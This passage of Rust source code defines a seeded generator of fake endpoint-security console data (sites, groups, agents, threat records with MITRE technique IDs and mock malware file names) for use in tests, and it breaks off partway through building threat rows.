//! The deterministic tenant generator: the same `TenantSpec` (seed included) always yields the same
//! accounts, sites, groups, agents and threats, byte for byte, shaped like the real samples.

use std::collections::HashMap;

use serde_json::{json, Value};
use time::macros::datetime;
use time::OffsetDateTime;

use std::sync::Arc;

use crate::jsonw::Obj;
use crate::records::{lenient_bool, AgentRow, ThreatRow};
use crate::risks::RiskTier;
use crate::util::{
    datetime_to_micros, fmt_micros, fmt_seconds, fnv1a, parse_timestamp, Micros, SeededRng,
};

const DAY_US: i64 = 86_400_000_000;
const HOUR_US: i64 = 3_600_000_000;

/// What tenant to generate. Counts are exact; the mix knobs are per-mille or percent of records.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TenantSpec {
    pub seed: u64,
    pub sites: usize,
    /// Groups in each site, the site's "Default Group" included (at least 1 is always created).
    pub groups_per_site: usize,
    pub agents: usize,
    pub threats: usize,
    /// Agents that are decommissioned, per mille (~3%).
    pub decommissioned_permille: u32,
    /// Agents whose computer name repeats an older agent's (a re-imaged machine), per mille (~2%).
    pub duplicate_name_permille: u32,
    /// Agents shaped like the 2021 console sample: no `tags` and other newer keys, `"True"`
    /// string booleans, null `lastIpToMgmt` and `externalId`, per mille (~8%).
    pub legacy_shape_permille: u32,
    /// Modern agents that carry at least one key-value tag, in percent.
    pub tagged_pct: u32,
    /// Threats whose agent has since been removed from the console, per mille (~1%).
    pub orphan_threat_permille: u32,
    /// The generated history ends here (nothing is created or updated later), so a seed gives the
    /// same data whatever day the test runs; mutations stamp later times.
    pub history_end: OffsetDateTime,
    /// Application-vulnerability rows per active agent (`application-management/risks`); a real fleet averages
    /// about 140.
    pub risks_per_agent: usize,
    /// Which tier's key set the risk rows carry.
    pub risk_tier: RiskTier,
}

impl Default for TenantSpec {
    fn default() -> Self {
        Self::small()
    }
}

impl TenantSpec {
    /// A tenant for everyday tests: 3 sites, 4 groups per site, 300 agents, 3,000 threats.
    pub fn small() -> Self {
        Self {
            seed: 42,
            sites: 3,
            groups_per_site: 4,
            agents: 300,
            threats: 3000,
            decommissioned_permille: 30,
            duplicate_name_permille: 20,
            legacy_shape_permille: 80,
            tagged_pct: 60,
            orphan_threat_permille: 10,
            history_end: datetime!(2026-11-01 00:00:00 UTC),
            risks_per_agent: 3,
            risk_tier: RiskTier::Base,
        }
    }

    pub fn with_seed(mut self, seed: u64) -> Self {
        self.seed = seed;
        self
    }

    pub fn with_agents(mut self, n: usize) -> Self {
        self.agents = n;
        self
    }

    pub fn with_risks_per_agent(mut self, n: usize) -> Self {
        self.risks_per_agent = n;
        self
    }

    pub fn with_risk_tier(mut self, tier: RiskTier) -> Self {
        self.risk_tier = tier;
        self
    }

    pub fn with_threats(mut self, n: usize) -> Self {
        self.threats = n;
        self
    }

    pub fn with_sites(mut self, n: usize) -> Self {
        self.sites = n;
        self
    }

    pub fn with_groups_per_site(mut self, n: usize) -> Self {
        self.groups_per_site = n;
        self
    }
}

#[derive(Debug, Clone)]
pub(crate) struct Site {
    pub id: String,
    pub name: String,
    pub account_id: String,
    pub account_name: String,
    /// Index of the site in the generator; used for the internal 10.<site>.x.x address plan.
    pub ordinal: usize,
    pub egress_prefix: String,
}

#[derive(Debug, Clone)]
pub(crate) struct GroupInfo {
    pub id: String,
    pub name: String,
    pub site: usize,
    pub ordinal: usize,
}

/// Everything the generator needs to keep producing consistent records after the initial tenant
/// (for `add_agents`/`add_threats`).
#[derive(Debug, Clone)]
pub(crate) struct Generator {
    rng: SeededRng,
    last_id: u64,
    name_counters: HashMap<String, u32>,
    pub sites: Vec<Site>,
    pub groups: Vec<GroupInfo>,
    pub spec: TenantSpec,
}

pub(crate) struct Generated {
    pub groups: Vec<Value>,
    pub agents: Vec<AgentRow>,
    pub threats: Vec<ThreatRow>,
    pub generator: Generator,
}

const ACCOUNT_NAMES: &[&str] = &[
    "Acme Corp",
    "Acme Subsidiary GmbH",
    "Acme Labs",
    "Acme MSSP Client",
];
const SITE_NAMES: &[&str] = &[
    "Headquarters",
    "Europe",
    "APAC",
    "Datacenter East",
    "Datacenter West",
    "Cloud Workloads",
    "Retail Stores",
    "R&D Lab",
];
const GROUP_NAMES: &[&str] = &[
    "Workstations",
    "Servers",
    "Laptops",
    "Domain Controllers",
    "Kubernetes Nodes",
    "Finance",
    "Engineering",
    "Executives",
    "Contractors",
    "Kiosks",
    "Linux Servers",
    "Test Machines",
];
const DEPTS: &[&str] = &[
    "FIN", "HR", "ENG", "MKT", "SALES", "OPS", "LEGAL", "IT", "EXEC", "SUP",
];
const FIRST_NAMES: &[&str] = &[
    "jdoe",
    "asmith",
    "mgarcia",
    "lchen",
    "pnovak",
    "kmueller",
    "sjohnson",
    "rpatel",
    "tnguyen",
    "ebrown",
    "omartin",
    "yyamamoto",
];
const PEOPLE: &[&str] = &[
    "Jane Doe",
    "Alex Smith",
    "Maria Garcia",
    "Li Chen",
    "Petr Novak",
    "Katrin Mueller",
];
const AGENT_VERSIONS: &[&str] = &[
    "23.4.2.14",
    "23.3.3.264",
    "23.2.3.358",
    "22.3.4.612",
    "24.1.2.6",
];
const APPS_VULNERABILITY: &[&str] = &["up_to_date", "not_applicable", "patch_required"];
const RANGER_STATUSES: &[&str] = &["Enabled", "Disabled", "NotApplicable"];
const LEGACY_AGENT_VERSIONS: &[&str] = &["3.1.3.38", "4.1.4.82", "21.5.3.235"];
const EGRESS_PREFIXES: &[&str] = &[
    "81.2.69",
    "3.122.240",
    "52.28.113",
    "185.199.108",
    "34.141.22",
    "20.82.150",
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum OsKind {
    WinWorkstation,
    WinServer,
    WinLegacy,
    Mac,
    LinuxServer,
    K8sNode,
}

const OS_MIX: &[(OsKind, u32)] = &[
    (OsKind::WinWorkstation, 52),
    (OsKind::WinServer, 10),
    (OsKind::WinLegacy, 1),
    (OsKind::Mac, 15),
    (OsKind::LinuxServer, 18),
    (OsKind::K8sNode, 4),
];

const ENGINES: &[(&str, &str)] = &[
    ("sentinelone_cloud", "SentinelOne Cloud"),
    ("reputation", "Reputation"),
    ("pre_execution", "On-Write Static AI"),
    (
        "pre_execution_suspicious",
        "On-Write Static AI - Suspicious",
    ),
    ("executables", "Behavioral AI"),
    ("data_files", "Documents, Scripts"),
    ("user_blacklist", "User-Defined Blocklist"),
    ("cloud_detection", "Cloud Detection"),
];

/// MITRE ATT&CK tactics with techniques that fit endpoint detections.
const TACTICS: &[(&str, &[&str])] = &[
    (
        "Execution",
        &["T1059", "T1059.001", "T1059.003", "T1204.002", "T1047"],
    ),
    ("Persistence", &["T1547.001", "T1053.005", "T1543.003"]),
    (
        "Defense Evasion",
        &["T1562.001", "T1027", "T1112", "T1070.004", "T1218.011"],
    ),
    ("Credential Access", &["T1003.001", "T1555.003"]),
    ("Discovery", &["T1082", "T1083", "T1057"]),
    ("Command And Control", &["T1071.001", "T1105"]),
    ("Impact", &["T1486", "T1490", "T1496"]),
    ("Initial Access", &["T1566.001", "T1189"]),
    ("Privilege Escalation", &["T1055", "T1548.002"]),
];

const INDICATORS: &[(&str, &str, u64)] = &[
    ("Exploitation", "Document behaves abnormally", 62),
    ("Evasion", "Indirect command was executed", 427),
    ("Evasion", "Office program ran macro", 434),
    ("Evasion", "Process wrote to a hidden file section", 169),
    ("Evasion", "Suspicious registry key was created", 171),
    (
        "Persistence",
        "Application registered itself to become persistent via scheduled task",
        201,
    ),
    (
        "Ransomware",
        "Process encrypted files with a known ransomware extension",
        501,
    ),
    (
        "InfoStealer",
        "Process accessed browser credential stores",
        330,
    ),
    ("Discovery", "Process enumerated network shares", 118),
    (
        "Injection",
        "Process injected code into another process",
        77,
    ),
];

#[derive(Debug, Clone)]
struct Nic {
    id: String,
    name: String,
    inet: String,
    inet6: String,
    physical: String,
    gateway: Option<(String, String)>,
}

#[derive(Debug, Clone)]
struct TagFacts {
    id: String,
    key: String,
    value: String,
    at: Micros,
    by: &'static str,
    by_id: String,
}

/// Every decision about one generated agent; written out by `write_agent`.
#[derive(Debug, Clone)]
struct AgentFacts {
    id: String,
    uuid: String,
    site: Site,
    group_id: String,
    group_name: String,
    computer_name: String,
    domain: &'static str,
    os_type: &'static str,
    os_name: &'static str,
    os_revision: String,
    machine: &'static str,
    model: &'static str,
    cpu: &'static str,
    arch: &'static str,
    version: &'static str,
    legacy: bool,
    decommissioned: bool,
    uninstalled: bool,
    active: bool,
    network_status: &'static str,
    created: Micros,
    updated: Micros,
    last_active: Micros,
    registered: Micros,
    os_start: Micros,
    scan: Option<(Micros, Micros)>,
    reboot_needed: bool,
    external_ip: String,
    last_ip_to_mgmt: Option<String>,
    last_user: String,
    nics: Vec<Nic>,
    core_count: u64,
    cpu_count: u64,
    memory: u64,
    firewall: bool,
    up_to_date: bool,
    remote_shell: bool,
    apps_vulnerability: &'static str,
    installer: &'static str,
    mitigation_mode: &'static str,
    mitigation_mode_suspicious: &'static str,
    quarantined: bool,
    ranger_status: &'static str,
    missing_fda: bool,
    tags: Vec<TagFacts>,
}

/// (id, name, inet, inet6, physical) of a network interface as threats copy it.
type NicView = (String, String, Vec<String>, Vec<String>, String);

/// The agent as a threat sees it (`agentRealtimeInfo`/`agentDetectionInfo`), built from generator
/// facts or from a served agent record.
#[derive(Debug, Clone, Default)]
pub(crate) struct ThreatAgent {
    id: String,
    uuid: String,
    account_id: String,
    account_name: String,
    site_id: String,
    site_name: String,
    group_id: String,
    group_name: String,
    computer_name: String,
    domain: String,
    os_type: String,
    os_name: String,
    os_revision: String,
    machine: String,
    mitigation_mode: String,
    network_status: String,
    active: bool,
    decommissioned: bool,
    /// `true` or a timestamp for decommissioned agents (API.md decision 10), else null.
    decommissioned_at: Option<Result<bool, String>>,
    version: String,
    registered: String,
    created: Micros,
    external_ip: Option<String>,
    last_user: String,
    operational_state: String,
    scan_status: String,
    scan_started: Option<String>,
    scan_finished: Option<String>,
    user_actions: Vec<String>,
    nics: Vec<NicView>,
    active_threats: u64,
    infected: bool,
}

fn decommissioned_at(
    id: &str,
    decommissioned: bool,
    updated: &str,
) -> Option<Result<bool, String>> {
    // Decided by the agent id so every threat of one agent agrees.
    decommissioned.then(|| {
        if fnv1a(id.as_bytes()).is_multiple_of(2) {
            Ok(true)
        } else {
            Err(updated.to_owned())
        }
    })
}

impl ThreatAgent {
    fn from_facts(a: &AgentFacts) -> Self {
        Self {
            id: a.id.clone(),
            uuid: a.uuid.clone(),
            account_id: a.site.account_id.clone(),
            account_name: a.site.account_name.clone(),
            site_id: a.site.id.clone(),
            site_name: a.site.name.clone(),
            group_id: a.group_id.clone(),
            group_name: a.group_name.clone(),
            computer_name: a.computer_name.clone(),
            domain: a.domain.to_owned(),
            os_type: a.os_type.to_owned(),
            os_name: a.os_name.to_owned(),
            os_revision: a.os_revision.clone(),
            machine: a.machine.to_owned(),
            mitigation_mode: a.mitigation_mode.to_owned(),
            network_status: a.network_status.to_owned(),
            active: a.active,
            decommissioned: a.decommissioned,
            decommissioned_at: decommissioned_at(&a.id, a.decommissioned, &fmt_micros(a.updated)),
            version: a.version.to_owned(),
            registered: fmt_micros(a.registered),
            created: a.created,
            external_ip: Some(a.external_ip.clone()),
            last_user: a.last_user.clone(),
            operational_state: "na".to_owned(),
            scan_status: if a.scan.is_some() { "finished" } else { "none" }.to_owned(),
            scan_started: a.scan.map(|(s, _)| fmt_micros(s)),
            scan_finished: a.scan.map(|(_, e)| fmt_micros(e)),
            user_actions: if a.reboot_needed {
                vec!["reboot_needed".to_owned()]
            } else {
                Vec::new()
            },
            nics: a
                .nics
                .iter()
                .map(|n| {
                    (
                        n.id.clone(),
                        n.name.clone(),
                        vec![n.inet.clone()],
                        vec![n.inet6.clone()],
                        n.physical.clone(),
                    )
                })
                .collect(),
            active_threats: 0,
            infected: false,
        }
    }

    /// Reads a served agent record leniently (for threats added after the tenant was generated).
    pub(crate) fn from_value(v: &Value) -> Self {
        let s = |k: &str| {
            v.get(k)
                .and_then(Value::as_str)
                .unwrap_or_default()
                .to_owned()
        };
        let opt = |k: &str| v.get(k).and_then(Value::as_str).map(str::to_owned);
        let strings = |x: Option<&Value>| -> Vec<String> {
            x.and_then(Value::as_array)
                .map(|a| {
                    a.iter()
                        .filter_map(|i| i.as_str().map(str::to_owned))
                        .collect()
                })
                .unwrap_or_default()
        };
        let id = s("id");
        let decommissioned = lenient_bool(v.get("isDecommissioned"));
        let active_threats = v.get("activeThreats").and_then(Value::as_u64).unwrap_or(0);
        Self {
            decommissioned_at: decommissioned_at(&id, decommissioned, &s("updatedAt")),
            id,
            uuid: s("uuid"),
            account_id: s("accountId"),
            account_name: s("accountName"),
            site_id: s("siteId"),
            site_name: s("siteName"),
            group_id: s("groupId"),
            group_name: s("groupName"),
            computer_name: s("computerName"),
            domain: s("domain"),
            os_type: s("osType"),
            os_name: s("osName"),
            os_revision: s("osRevision"),
            machine: s("machineType"),
            mitigation_mode: s("mitigationMode"),
            network_status: s("networkStatus"),
            active: lenient_bool(v.get("isActive")),
            decommissioned,
            version: s("agentVersion"),
            registered: s("registeredAt"),
            created: parse_timestamp(&s("createdAt")).unwrap_or(0),
            external_ip: opt("externalIp"),
            last_user: s("lastLoggedInUserName"),
            operational_state: opt("operationalState").unwrap_or_else(|| "na".to_owned()),
            scan_status: s("scanStatus"),
            scan_started: opt("scanStartedAt"),
            scan_finished: opt("scanFinishedAt"),
            user_actions: strings(v.get("userActionsNeeded")),
            nics: v
                .get("networkInterfaces")
                .and_then(Value::as_array)
                .map(|list| {
                    list.iter()
                        .map(|n| {
                            let ns = |k: &str| {
                                n.get(k)
                                    .and_then(Value::as_str)
                                    .unwrap_or_default()
                                    .to_owned()
                            };
                            (
                                ns("id"),
                                ns("name"),
                                strings(n.get("inet")),
                                strings(n.get("inet6")),
                                ns("physical"),
                            )
                        })
                        .collect()
                })
                .unwrap_or_default(),
            active_threats,
            infected: lenient_bool(v.get("infected")),
        }
    }
}

/// Every decision about one threat that is needed before the agents' counts are known.
#[derive(Debug, Clone, Copy)]
struct ThreatPlan {
    created: Micros,
    updated: Micros,
    verdict: &'static str,
    incident: &'static str,
}

fn describe(s: &str) -> &'static str {
    match s {
        "undefined" => "Undefined",
        "true_positive" => "True positive",
        "false_positive" => "False positive",
        "suspicious" => "Suspicious",
        "unresolved" => "Unresolved",
        "in_progress" => "In progress",
        "resolved" => "Resolved",
        "mitigated" => "Mitigated",
        "not_mitigated" => "Not mitigated",
        "marked_as_benign" => "Marked as benign",
        _ => "",
    }
}

impl Generator {
    fn next_id(&mut self) -> String {
        // Console ids are 18-digit decimal strings that grow over time.
        self.last_id += 1 + self.rng.below(4_000_000_000);
        self.last_id.to_string()
    }

    fn numbered(&mut self, prefix: &str, width: usize) -> String {
        let n = self.name_counters.entry(prefix.to_owned()).or_insert(0);
        *n += 1;
        format!("{prefix}{:0width$}", *n)
    }

    fn mac(&mut self, windows: bool) -> String {
        let x = self.rng.next_u64().to_le_bytes();
        // Locally administered addresses keep generated MACs out of real vendors' space.
        let b = [(x[0] & 0xfe) | 0x02, x[1], x[2], x[3], x[4], x[5]];
        if windows {
            format!(
                "{:02X}-{:02X}-{:02X}-{:02X}-{:02X}-{:02X}",
                b[0], b[1], b[2], b[3], b[4], b[5]
            )
        } else {
            format!(
                "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
                b[0], b[1], b[2], b[3], b[4], b[5]
            )
        }
    }

    fn ipv6_link_local(&mut self) -> String {
        let x = self.rng.next_u64();
        format!(
            "fe80::{:x}:{:x}:{:x}:{:x}",
            (x >> 48) & 0xffff,
            (x >> 32) & 0xffff,
            (x >> 16) & 0xffff,
            x & 0xffff
        )
    }

    fn hostname(&mut self, os: OsKind, machine: &str) -> String {
        match os {
            OsKind::WinWorkstation | OsKind::WinLegacy => {
                let dept = *self.rng.pick(DEPTS);
                let kind = if machine == "laptop" {
                    "LAPTOP"
                } else {
                    "DESKTOP"
                };
                self.numbered(&format!("{dept}-{kind}-"), 4)
            }
            OsKind::WinServer => {
                if self.rng.chance(40) {
                    const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
                    let s: String = (0..7).map(|_| char::from(*self.rng.pick(ALNUM))).collect();
                    format!("EC2AMAZ-{s}")
                } else {
                    let role = *self.rng.pick(&["DC", "SQL", "FS", "APP", "EXCH", "RDS"]);
                    self.numbered(&format!("SRV-{role}-"), 2)
                }
            }
            OsKind::Mac => {
                let who = *self.rng.pick(FIRST_NAMES);
                self.numbered(&format!("{who}-mbp-"), 3)
            }
            OsKind::LinuxServer => {
                let role = *self
                    .rng
                    .pick(&["web", "api", "db", "cache", "worker", "batch", "bastion"]);
                let env = *self.rng.pick(&["prod", "prod", "stg", "dev"]);
                self.numbered(&format!("{role}-{env}-"), 2)
            }
            OsKind::K8sNode => self.numbered("k8s-node-", 2),
        }
    }

    fn pick_group(&mut self) -> usize {
        let site = self.rng.below(self.sites.len() as u64) as usize;
        let first = self.groups.iter().position(|g| g.site == site).unwrap_or(0);
        let count = self.groups.iter().filter(|g| g.site == site).count().max(1);
        // The site's Default Group (its first group) holds the unassigned bulk of agents.
        if count == 1 || self.rng.chance(40) {
            first
        } else {
            first + 1 + self.rng.below(count as u64 - 1) as usize
        }
    }

    fn agent_facts(
        &mut self,
        created: Micros,
        updated: Micros,
        reuse_name: Option<String>,
    ) -> AgentFacts {
        let gi = self.pick_group();
        let group = self.groups[gi].clone();
        let site = self.sites[group.site].clone();
        let os = *self.rng.weighted(OS_MIX);
        let legacy = self.rng.permille(self.spec.legacy_shape_permille);
        let decommissioned = self.rng.permille(self.spec.decommissioned_permille);
        let (os_type, os_name, os_revision, machine, model, cpu, arch): (
            &'static str,
            &'static str,
            &'static str,
            &'static str,
            &'static str,
            &'static str,
            &'static str,
        ) = match os {
            OsKind::WinWorkstation => {
                let (name, revs) = *self.rng.pick(&[
                    ("Windows 10 Pro", &["19044", "19045"][..]),
                    ("Windows 10 Enterprise", &["19045"][..]),
                    ("Windows 11 Pro", &["22621", "22631", "26100"][..]),
                    ("Windows 11 Enterprise", &["22631", "26100"][..]),
                ]);
                let machine = if self.rng.chance(65) {
                    "laptop"
                } else {
                    "desktop"
                };
                let model = *self.rng.pick(&[
                    "Dell Inc. - Latitude 7420",
                    "LENOVO - ThinkPad T14 Gen 3",
                    "HP - HP EliteBook 840 G8",
                    "Dell Inc. - OptiPlex 7090",
                    "Microsoft Corporation - Surface Laptop 5",
                ]);
                let cpu = *self.rng.pick(&[
                    "Intel(R) Core(TM) i7-1185G7 @ 3.00GHz",
                    "Intel(R) Core(TM) i5-10310U CPU @ 1.70GHz",
                    "12th Gen Intel(R) Core(TM) i7-1265U",
                    "AMD Ryzen 7 PRO 5850U with Radeon Graphics",
                ]);
                (
                    "windows",
                    name,
                    *self.rng.pick(revs),
                    machine,
                    model,
                    cpu,
                    "64 bit",
                )
            }
            OsKind::WinServer => {
                let (name, rev) = *self.rng.pick(&[
                    ("Windows Server 2016", "14393"),
                    ("Windows Server 2019", "17763"),
                    ("Windows Server 2022", "20348"),
                ]);
                let model = *self.rng.pick(&[
                    "Amazon EC2 - t3.medium",
                    "Amazon EC2 - m5.xlarge",
                    "VMware, Inc. - VMware Virtual Platform",
                    "Microsoft Corporation - Virtual Machine",
                ]);
                let cpu = *self.rng.pick(&[
                    "Intel(R) Xeon(R) Platinum 8175M CPU @ 2.50GHz",
                    "Intel(R) Xeon(R) Gold 6248R CPU @ 3.00GHz",
                ]);
                ("windows", name, rev, "server", model, cpu, "64 bit")
            }
            OsKind::WinLegacy => (
                "windows_legacy",
                "Windows 7 Professional",
                "7601",
                "desktop",
                "Dell Inc. - OptiPlex 790",
                "Intel(R) Core(TM) i5-2400 CPU @ 3.10GHz",
                "32 bit",
            ),
            OsKind::Mac => {
                let rev = *self
                    .rng
                    .pick(&["13.6.7", "14.4.1", "14.5", "15.1", "15.1.1"]);
                let (model, cpu, machine) = *self.rng.pick(&[
                    ("MacBookPro18,1", "Apple M1 Pro", "laptop"),
                    ("MacBookAir10,1", "Apple M1", "laptop"),
                    ("Mac14,2", "Apple M2", "laptop"),
                    ("iMac21,1", "Apple M1", "desktop"),
                ]);
                ("macos", "macOS", rev, machine, model, cpu, "ARM64")
            }
            OsKind::LinuxServer => {
                let (name, rev) = *self.rng.pick(&[
                    ("Ubuntu 22.04", "5.15.0-105-generic"),
                    ("Ubuntu 20.04", "5.4.0-182-generic"),
                    (
                        "Red Hat Enterprise Linux 8.9",
                        "4.18.0-513.24.1.el8_9.x86_64",
                    ),
                    ("Amazon Linux 2", "5.10.215-203.850.amzn2.x86_64"),
                    ("Debian GNU/Linux 12", "6.1.0-21-amd64"),
                    ("Linux Server", "1234"),
                ]);
                let model = *self.rng.pick(&[
                    "Amazon EC2 - m5.large",
                    "Amazon EC2 - c6i.2xlarge",
                    "Compute Engine",
                    "VMware, Inc. - VMware Virtual Platform",
                ]);
                let cpu = *self.rng.pick(&[
                    "Intel(R) Xeon(R) Platinum 8259CL CPU @ 2.50GHz",
                    "AMD EPYC 7571",
                    "Intel(R) Xeon(R) CPU @ 2.20GHz",
                ]);
                ("linux", name, rev, "server", model, cpu, "64 bit")
            }
            OsKind::K8sNode => (
                "linux",
                "Ubuntu 22.04",
                "5.15.0-1057-aws",
                "kubernetes node",
                "Amazon EC2 - m6i.2xlarge",
                "Intel(R) Xeon(R) Platinum 8375C CPU @ 2.90GHz",
                "64 bit",
            ),
        };
        let windows = os_type != "macos" && os_type != "linux";
        let computer_name = match reuse_name {
            Some(n) => n,
            None => self.hostname(os, machine),
        };
        let id = self.next_id();
        let uuid = self.rng.hex(32);
        let active = !decommissioned && self.rng.chance(85);
        let last_active = if active {
            updated - self.rng.range(0, HOUR_US)
        } else {
            updated - self.rng.range(DAY_US, 60 * DAY_US)
        }
        .max(created);
        let registered = created - self.rng.range(0, 5_000_000);
        let os_start = last_active - self.rng.range(HOUR_US, 20 * DAY_US);
        // Every sample agent has finished its first full scan; scan dates are never null there.
        let scan = {
            let start = created + self.rng.range(60_000_000, 2 * HOUR_US);
            Some((start, start + self.rng.range(60_000_000, HOUR_US)))
        };
        let version = if legacy {
            *self.rng.pick(LEGACY_AGENT_VERSIONS)
        } else {
            *self.rng.pick(AGENT_VERSIONS)
        };
        let domain = if windows && machine != "server" && self.rng.chance(80) {
            "ACME"
        } else {
            "WORKGROUP"
        };
        let user = *self.rng.pick(FIRST_NAMES);
        let last_user = if machine == "server" || machine == "kubernetes node" {
            String::new()
        } else if windows {
            format!("{domain}\\{user}")
        } else {
            user.to_owned()
        };
        let external_ip = format!("{}.{}", site.egress_prefix, 10 + self.rng.below(200));
        let internal_ip = format!(
            "10.{}.{}.{}",
            site.ordinal % 250,
            group.ordinal % 250,
            2 + self.rng.below(250)
        );
        let nic_count = if self.rng.chance(20) { 2 } else { 1 };
        let mut nics = Vec::with_capacity(nic_count);
        for n in 0..nic_count {
            let name = match (os_type, n) {
                ("macos", 0) => "en0",
                ("macos", _) => "en1",
                ("linux", 0) => *self.rng.pick(&["eth0", "ens5", "enp0s3"]),
                ("linux", _) => "docker0",
                (_, 0) => *self.rng.pick(&["Ethernet", "Wi-Fi", "Ethernet 2"]),
                _ => "vEthernet (WSL)",
            };
            let inet = if n == 0 {
                internal_ip.clone()
            } else {
                format!("172.17.0.{}", 1 + self.rng.below(250))
            };
            let gateway = if n == 0 && self.rng.chance(75) {
                let prefix = inet
                    .rsplit_once('.')
                    .map_or("10.0.0", |(p, _)| p)
                    .to_owned();
                Some((format!("{prefix}.1"), self.mac(windows)))
            } else {
                None
            };
            nics.push(Nic {
                id: self.next_id(),
                name: name.to_owned(),
                inet,
                inet6: self.ipv6_link_local(),
                physical: self.mac(windows),
                gateway,
            });
        }
        let memory =
            *self.rng.pick(&[4096u64, 8192, 16384, 16384, 32768, 65536]) - self.rng.below(120);
        let tags = if !legacy && self.rng.chance(self.spec.tagged_pct) {
            self.tags(created, updated)
        } else {
            Vec::new()
        };
        let apps_vulnerability = *self.rng.pick(APPS_VULNERABILITY);
        let ranger = *self.rng.pick(RANGER_STATUSES);
        AgentFacts {
            id,
            uuid,
            group_id: group.id.clone(),
            group_name: group.name.clone(),
            computer_name,
            domain,
            os_type,
            os_name,
            os_revision: os_revision.to_owned(),
            machine,
            model,
            cpu,
            arch,
            version,
            legacy,
            decommissioned,
            uninstalled: decommissioned && self.rng.chance(30),
            active,
            network_status: if active {
                "connected"
            } else if self.rng.chance(10) {
                "connecting"
            } else {
                "disconnected"
            },
            created,
            updated,
            last_active,
            registered,
            os_start,
            scan,
            reboot_needed: self.rng.chance(5),
            external_ip,
            last_ip_to_mgmt: if legacy || self.rng.chance(3) {
                None
            } else {
                Some(internal_ip)
            },
            last_user,
            nics,
            core_count: *self.rng.pick(&[2u64, 4, 4, 8, 8, 16]),
            cpu_count: if machine == "server" { 2 } else { 1 },
            memory,
            firewall: os_type != "linux" && self.rng.chance(90),
            up_to_date: !legacy && self.rng.chance(80),
            remote_shell: self.rng.chance(50),
            apps_vulnerability,
            installer: match os_type {
                "macos" => ".pkg",
                "linux" if os_name.starts_with("Red Hat") || os_name.starts_with("Amazon") => {
                    ".rpm"
                }
                "linux" => ".deb",
                _ if self.rng.chance(70) => ".msi",
                _ => ".exe",
            },
            mitigation_mode: if self.rng.chance(85) {
                "protect"
            } else {
                "detect"
            },
            mitigation_mode_suspicious: if self.rng.chance(70) {
                "detect"
            } else {
                "protect"
            },
            quarantined: self.rng.permille(5),
            ranger_status: if legacy { "NotApplicable" } else { ranger },
            missing_fda: os_type == "macos" && self.rng.chance(30),
            tags,
            site,
        }
    }

    fn tags(&mut self, created: Micros, updated: Micros) -> Vec<TagFacts> {
        const TAGS: &[(&str, &[&str])] = &[
            ("environment", &["production", "staging", "development"]),
            (
                "owner",
                &["platform-team", "it-ops", "finance-it", "secops"],
            ),
            ("cost-center", &["CC-1042", "CC-2077", "CC-3100"]),
            ("criticality", &["high", "medium", "low"]),
            ("compliance", &["pci", "sox", "hipaa"]),
        ];
        let n = 1 + self.rng.below(3) as usize;
        let start = self.rng.below(TAGS.len() as u64) as usize;
        (0..n)
            .map(|k| {
                let (key, values) = TAGS[(start + k) % TAGS.len()];
                let value = (*self.rng.pick(values)).to_owned();
                self.tag(key, value, created + (updated - created) / 2)
            })
            .collect()
    }

    fn tag(&mut self, key: &str, value: String, at: Micros) -> TagFacts {
        let who = self.rng.below(PEOPLE.len() as u64) as usize;
        TagFacts {
            id: self.next_id(),
            key: key.to_owned(),
            value,
            at,
            by: PEOPLE[who],
            by_id: person_id(who),
        }
    }

    /// A tag in its served JSON form (for `add_agent_tag`).
    pub(crate) fn tag_value(&mut self, key: &str, value: &str, at: Micros) -> Value {
        let t = self.tag(key, value.to_owned(), at);
        let mut s = String::new();
        write_tag(&mut s, &t);
        serde_json::from_str(&s).unwrap_or(Value::Null)
    }

    /// A new agent created and last updated at `at`, as a served row.
    pub(crate) fn new_agent_row(&mut self, at: Micros) -> AgentRow {
        let facts = self.agent_facts(at, at, None);
        agent_row(&facts, 0)
    }

    /// A new threat on `agent`, created and last updated at `at`, as a served row.
    pub(crate) fn new_threat_row(&mut self, agent: &ThreatAgent, at: Micros) -> ThreatRow {
        let plan = self.plan_threat(at, at, at);
        self.threat_row(agent, plan)
    }

    fn plan_threat(&mut self, agent_created: Micros, earliest: Micros, end: Micros) -> ThreatPlan {
        let created = self.rng.range(agent_created.max(earliest), end);
        let updated = (created + self.rng.range(1_000, 30 * DAY_US)).min(end.max(created));
        let verdict = *self.rng.weighted(&[
            ("undefined", 45),
            ("true_positive", 25),
            ("false_positive", 20),
            ("suspicious", 10),
        ]);
        let incident = *match verdict {
            "false_positive" => {
                self.rng
                    .weighted(&[("resolved", 90), ("unresolved", 5), ("in_progress", 5)])
            }
            "true_positive" => {
                self.rng
                    .weighted(&[("resolved", 60), ("in_progress", 25), ("unresolved", 15)])
            }
            "suspicious" => {
                self.rng
                    .weighted(&[("unresolved", 50), ("in_progress", 40), ("resolved", 10)])
            }
            _ => self
                .rng
                .weighted(&[("unresolved", 70), ("in_progress", 10), ("resolved", 20)]),
        };
        ThreatPlan {
            created,
            updated,
            verdict,
            incident,
        }
    }

    fn threat_row(&mut self, agent: &ThreatAgent, plan: ThreatPlan) -> ThreatRow {
        let ThreatPlan {
            created,
            updated,
            verdict,
            incident,
        } = plan;
        let id = self.next_id();
        let confidence = *self
            .rng
            .weighted(&[("malicious", 60), ("suspicious", 38), ("n/a", 2)]);
        let mitigation = if verdict == "false_positive" && self.rng.chance(60) {
            "marked_as_benign"
        } else if self.rng.chance(65) {
            "mitigated"
        } else {
            "not_mitigated"
        };
        let dynamic = self.rng.chance(45);
        let user = *self.rng.pick(FIRST_NAMES);
        let (file, ext, ext_type, path, originator, process_user, args): (
            &str,
            &str,
            &str,
            String,
            &str,
            String,
            Option<String>,
        ) = match agent.os_type.as_str() {
            "macos" => {
                let (f, e, t) = *self.rng.pick(&[
                    ("Installer.dmg", "DMG", "Archive"),
                    ("FlashPlayer.pkg", "PKG", "Archive"),
                    ("update.sh", "SH", "Script"),
                    ("osascript_helper", "", "Executable"),
                ]);
                let dir = *self.rng.pick(&[
                    "/Users/{u}/Downloads",
                    "/private/tmp",
                    "/Users/{u}/Library/LaunchAgents",
                ]);
                let orig = *self.rng.pick(&["Finder", "launchd", "bash", "Safari"]);
                (
                    f,
                    e,
                    t,
                    format!("{}/{f}", dir.replace("{u}", user)),
                    orig,
                    user.to_owned(),
                    None,
                )
            }
            "linux" => {
                let (f, e, t) = *self.rng.pick(&[
                    ("kworkerds", "", "Executable"),
                    ("xmrig", "", "Executable"),
                    ("install.sh", "SH", "Script"),
                    ("libprocesshider.so", "SO", "Executable"),
